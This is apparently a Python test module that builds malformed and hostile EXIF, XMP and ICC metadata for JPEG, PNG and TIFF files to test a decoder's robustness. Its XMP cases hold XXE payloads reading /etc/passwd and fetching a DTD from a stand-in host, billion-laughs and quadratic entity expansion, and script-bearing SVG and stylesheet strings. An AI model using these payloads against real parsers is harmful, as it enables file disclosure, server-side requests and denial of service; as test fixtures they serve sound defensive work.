"""Hostile metadata in sound pictures: EXIF, XMP and ICC. A picture is what it is, whatever is said beside it."""

from __future__ import annotations

import struct
from collections.abc import Iterator

from fdi_lib.records import Reason
from fdi_lib.storage import tiff
from tests.hostile.cases import DECODED, Case, case, honest
from tests.hostile.jpegs import segment, with_segments
from tests.hostile.pngs import chunk, with_chunks
from tests.hostile.tiffs import RATIONAL, Field, directory

_XMP_HEAD = b"http://ns.adobe.com/xap/1.0/\0"
_RDF = b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">%b</rdf:RDF>'
_JPEG_MOST = 65_533 - len(_XMP_HEAD)


def exif_block(fields: list[Field], following: int = 0, more: bytes = b"") -> bytes:
    return struct.pack("<2sHI", b"II", 42, 8) + directory(fields, following) + more


def cases() -> Iterator[Case]:
    for name, block in _exif().items():
        yield case(f"exif-{name}.jpg", with_segments(segment(0xE1, b"Exif\0\0" + block)), DECODED)
        yield case(f"exif-{name}.png", with_chunks(chunk(b"eXIf", block)), DECODED)
    for name, packet in _xmp().items():
        data = with_segments(segment(0xE1, _XMP_HEAD + packet[:_JPEG_MOST]))
        yield case(f"xmp-{name}.jpg", data, DECODED)
        yield case(f"xmp-{name}.png", with_chunks(chunk(b"iTXt", b"XML:com.adobe.xmp\0" + bytes(4) + packet)), DECODED)
        yield case(f"xmp-{name}.tif", _in_tiff(700, 1, packet), DECODED)
    for name, profile in _icc().items():
        parts = segment(0xE2, b"ICC_PROFILE\0\1\1" + profile)
        yield case(f"icc-{name}.jpg", with_segments(parts), DECODED)
        yield case(f"icc-{name}.tif", _in_tiff(34675, 7, profile), DECODED)
    parts = [segment(0xE2, b"ICC_PROFILE\0" + bytes([n, 9]) + bytes(60_000)) for n in (0, 1, 1, 255)]
    yield case("icc-in-lying-parts.jpg", with_segments(*parts), DECODED)
    app1 = [segment(0xE1, b"Exif\0\0" + bytes(65_000))] * 40
    yield case("exif-of-2-mb.jpg", with_segments(*app1), DECODED)
    for marker in (0xE1, 0xE2, 0xED, 0xEE):
        yield case(f"empty-segment-{marker:x}.jpg", with_segments(segment(marker, b"")), DECODED, Reason.UNREADABLE)


def _in_tiff(code: int, kind: int, value: bytes) -> bytes:
    data = honest()["lzw.tif"]
    return tiff.replace_directory(data, tiff.read_directories(data)[0] | {code: tiff.Tag(kind, value)})


def _exif() -> dict[str, bytes]:
    most = 2**32 - 1
    inner = exif_block([Field(tiff.EXIF, 4, 1, 8), Field(tiff.GPS, 4, 1, 8)])
    dpi = [Field(282, RATIONAL, 1, 50), Field(283, RATIONAL, 1, 50)]
    return {
        "of-noise": b"\x5a" * 600,
        "empty": b"",
        "offset-past-the-end": struct.pack("<2sHI", b"II", 42, most),
        "own-successor": exif_block([Field(271, 2, 4, 0)], following=8),
        "pointing-to-itself": inner,
        "counts-absurd": exif_block([Field(270, 2, most, 8), Field(271, 5, most, most), Field(37500, 7, most, 0)]),
        "orientation-9000": exif_block([Field(274, 3, 1, 9000)]),
        "orientation-of-text": exif_block([Field(274, 2, 1, 65)]),
        "resolution-absurd": exif_block(dpi, more=struct.pack("<3xIIxII", most, 1, most, 1)[2:]),
        "resolution-by-zero": exif_block(dpi, more=bytes(40)),
        "types-unknown": exif_block([Field(n + 300, n, 3, 8) for n in range(14, 40)]),
    }


def _xmp() -> dict[str, bytes]:
    lol = b"".join(b'<!ENTITY l%d "%b">' % (n + 1, b"&l%d;" % n * 10) for n in range(9))
    about = b'<rdf:Description rdf:about=""><dc xmlns="d">%b</dc></rdf:Description>'
    return {
        "of-noise": b"\xff\xfe\x00\x01" * 200,
        "cut": _RDF[:40],
        "external-entity": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + _RDF % (about % b"&e;"),
        "external-dtd": b'<!DOCTYPE x SYSTEM "http://192.0.2.1/evil.dtd">' + _RDF % b"",
        "parameter-entity": b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p;]>' + _RDF.replace(b"%b", b""),
        "entity-expansion": b'<!DOCTYPE x [<!ENTITY l0 "lol">' + lol + b"]>" + _RDF % (about % b"&l9;"),
        "entity-quadratic": b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 20_000 + b'">]>' + _RDF % (about % (b"&a;" * 5_000)),
        "deep": _RDF % (b"<a>" * 5_000 + b"</a>" * 5_000),
        "wide": _RDF % (b"<rdf:Description " + b" ".join(b'a%d=""' % n for n in range(5_000)) + b"/>"),
        "another-root": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "in-utf-16": '<?xml version="1.0" encoding="utf-16"?><a/>'.encode("utf-16"),
        "in-an-unknown-encoding": b'<?xml version="1.0" encoding="x-evil"?>' + _RDF % b"",
        "history-of-text": _RDF % b'<rdf:Description xmlns:m="http://ns.adobe.com/xap/1.0/mm/" m:History="none"/>',
        "stylesheet": b'<?xml-stylesheet href="javascript:alert(1)"?>' + _RDF % b"",
    }


def _icc() -> dict[str, bytes]:
    def profile(length: int, kind: bytes, tags: bytes) -> bytes:
        return (
            struct.pack(">I", length)
            + b"lcms\x04\x40\0\0"
            + kind
            + bytes(12)
            + b"acsp"
            + bytes(88)
            + tags.ljust(4, b"\0")
        )

    return {
        "of-noise": b"\x5a" * 500,
        "empty": b"",
        "length-absurd": profile(2**32 - 1, b"mntrRGB XYZ ", b""),
        "of-cmyk": profile(132, b"prtrCMYKLab ", b""),
        "tags-absurd": profile(132, b"mntrRGB XYZ ", b"\xff" * 4),
    }
